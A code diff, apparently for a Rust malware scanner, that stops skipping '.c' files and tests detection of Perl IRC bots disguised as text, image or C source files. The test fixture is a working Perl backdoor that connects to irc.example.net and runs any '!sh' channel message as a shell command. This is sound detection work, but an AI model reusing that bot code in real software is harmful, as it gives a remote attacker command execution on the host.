@@ -549,7 +549,8 @@ const QUIET_ENDINGS: &[&str] = &[
     "java",
     "go",
     "rs",
-    "c",
+    // (Not `c`: a program saved under a C source's name, `Backdoor.Perl.Small.c`, starts with
+    // its `#!` line, which no C source has.)
     "h",
     "cpp",
     "lua",
@@ -2214,7 +2215,9 @@ mod tests {
     fn a_program_kept_as_text_or_as_a_picture_is_read() {
         // fresh95's IRC bots: kept as `legend.txt` or `byr.jpg`, started with `perl byr.jpg`.
         let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nUSER b b b b\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s \"PRIVMSG #c :\" . `$1`; } }\n";
-        for name in ["legend.txt", "byr.jpg"] {
+        // (Or under a C source's name: fresh161's `Backdoor.Perl.Small.c`.)
+        assert!(sniffed("Backdoor.Perl.Small.c", false));
+        for name in ["legend.txt", "byr.jpg", "Backdoor.Perl.Small.c"] {
             assert!(worth_reading(name, bot.as_bytes()));
             assert!(whys(name, bot).contains(&Why::NetworkBot), "{name}: {:?}", whys(name, bot));
         }
